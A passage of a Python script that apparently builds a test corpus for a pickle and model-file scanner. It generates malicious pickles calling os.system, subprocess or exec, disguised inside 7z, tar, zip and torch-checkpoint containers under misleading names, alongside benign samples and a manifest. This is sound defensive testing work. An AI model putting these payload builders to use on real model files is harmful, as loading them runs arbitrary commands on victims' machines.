    try:
        import joblib, numpy as np
        for comp in (0, 3, 'gzip', 'bz2', 'xz', 'lz4'):
            bio = io.BytesIO()
            try:
                joblib.dump({'a': np.arange(10.0), 'o': np.array([1, 'x'], dtype=object), 'rng': np.random.RandomState(1)}, bio, compress=comp)
            except Exception:
                continue
            out('benign', f'gen-joblib-{comp}.joblib', bio.getvalue(), f'joblib.dump compress={comp}', 'joblib')
    except ImportError:
        pass


def gen_7z():
    """7z archives (py7zr): members are scanned by content, nested containers followed."""
    try:
        import py7zr
    except ImportError:
        print('py7zr missing: 7z entries not generated', file=sys.stderr)
        return

    def sz(members, filters=None):
        bio = io.BytesIO()
        with py7zr.SevenZipFile(bio, 'w', filters=filters) as z:
            for name, data in members:
                z.writestr(data, name)
        return bio.getvalue()

    evil = call('os', 'system', S(CMD))
    tz = torch_zip(evil, {'0': b'\0' * 16})
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('model.pkl', evil)
    evil_zip = bio.getvalue()
    mal('7z-model-bin.7z', sz([('model.bin', evil)]), 'pickle in a 7z (LZMA2) named .bin', 'nullifAI / 7z repack')
    mal('7z-wrong-name.7z', sz([('notes.txt', evil), ('README', b'hello\n')]), 'pickle in a 7z named .txt (found by content)', 'CVE-2025-1889 in 7z')
    mal('7z-bzip2.7z', sz([('data.pkl', evil)], [{'id': py7zr.FILTER_BZIP2}]), 'pickle in a bzip2 7z', '7z repack')
    mal('7z-copy.7z', sz([('data.pkl', call('subprocess', 'check_output', T(S(CMD)), proto=4))], [{'id': py7zr.FILTER_COPY}]), 'stored (copy) 7z, protocol 4', '7z repack')
    mal('7z-torch-zip.7z', sz([('model.pt', tz)]), 'torch zip calling os.system inside a 7z', 'nullifAI')
    mal('7z-zip-in-7z.7z', sz([('inner.zip', evil_zip)]), 'zip with a pickle inside a 7z', 'nested containers')
    mal('7z-gz-pickle.7z', sz([('x.pkl.gz', gzip.compress(evil))]), 'gzip pickle inside a 7z', 'nested containers')
    mal('7z-deflate.7z', sz([('data.pkl', evil)], [{'id': py7zr.FILTER_DEFLATE}]), '7z with the deflate filter (not read: INCONCLUSIVE)', '7z repack')
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, 'w') as z:
        z.writestr('model.7z', sz([('data.pkl', evil)]))
    mal('7z-in-zip.zip', bio.getvalue(), '7z with a pickle inside a zip', 'nested containers')
    deep = evil
    for i in range(7):
        deep = sz([(f'level{i}.7z' if i else 'data.pkl', deep)])
    mal('7z-nested-deep.7z', deep, '7z nested 7 deep (past the nesting limit: INCONCLUSIVE)', 'nested containers')
    benign_sd = torch_zip(state_dict_pkl(), {'0': b'\0' * 16})
    out('benign', '7z-state_dict.7z', sz([('model.pt', benign_sd)]), 'torch-like state_dict zip inside a 7z', '7z')
    out('benign', '7z-pickles.7z', sz([('a.pkl', pickle.dumps({'a': [1, 2.5, None]}, 4)), ('b.pkl', pickle.dumps(collections.OrderedDict(x=datetime.date(2024, 1, 2)), 2)),
                                       ('README.md', b'# data\n'), ('sub/c.pkl', pickle.dumps(decimal.Decimal('1.5'), 0))]), 'benign pickles and a README in a 7z', '7z')
    out('benign', '7z-bzip2-pickle.7z', sz([('data.pkl', pickle.dumps(list(range(100)), 4))], [{'id': py7zr.FILTER_BZIP2}]), 'benign pickle in a bzip2 7z', '7z')


def gen_tar():
    """tar archives (stdlib tarfile): torch's legacy tar layout and models packed in a tar."""
    import tarfile

    def tar(members):
        bio = io.BytesIO()
        with tarfile.open(fileobj=bio, mode='w', format=tarfile.USTAR_FORMAT) as t:
            for name, data in members:
                info = tarfile.TarInfo(name)
                info.size, info.mtime = len(data), 0
                t.addfile(info, io.BytesIO(data))
        return bio.getvalue()

    evil = call('os', 'system', S(CMD))
    sys_info = pickle.dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, 2)
    mal('tar-legacy-torch.tar', tar([('sys_info', sys_info), ('pickle', evil), ('storages', pickle.dumps(0, 2)), ('tensors', pickle.dumps(0, 2))]),
        'legacy torch tar checkpoint whose pickle member calls os.system', 'torch legacy tar format')
    mal('tar-model-pt.tar', tar([('model.pt', torch_zip(evil, {'0': b'\0' * 16}))]), 'torch zip calling os.system inside a tar', 'nested containers')
    mal('tar-hidden-name.tar', tar([('weights.dat', call('builtins', 'exec', S('import os'), proto=4))]), 'pickle named .dat in a tar (found by content)', 'nested containers')
    out('benign', 'tar-pickles.tar', tar([('sys_info', sys_info), ('data.pkl', pickle.dumps({'w': [1.0, 2.0], 'step': 3}, 4)), ('README', b'plain text\n')]),
        'benign pickles and a README in a tar', 'tar')


if __name__ == '__main__' and '--only-archives' in sys.argv:
    # Adds the 7z and tar entries to the committed corpus without regenerating the rest (whose
    # generators need torch, scikit-learn, pandas).
    with open(os.path.join(HERE, 'manifest.json')) as f:
        MAN.update(json.load(f))
    for k in [k for k in MAN if os.path.basename(k).startswith(('7z-', 'tar-'))]:
        os.remove(os.path.join(HERE, k))
        del MAN[k]
    gen_7z()
    gen_tar()
    with open(os.path.join(HERE, 'manifest.json'), 'w') as f:
        json.dump(dict(sorted(MAN.items())), f, indent=1)
    print(dict(collections.Counter(v['label'] for v in MAN.values())))
elif __name__ == '__main__':
    for d in ('malicious', 'benign'):
        shutil.rmtree(os.path.join(HERE, d), ignore_errors=True)
    gen_malicious()
    gen_containers()
    gen_benign()
    gen_7z()
    gen_tar()
    with open(os.path.join(HERE, 'manifest.json'), 'w') as f:
        json.dump(dict(sorted(MAN.items())), f, indent=1)
    counts = collections.Counter(v['label'] for v in MAN.values())
    print(dict(counts))
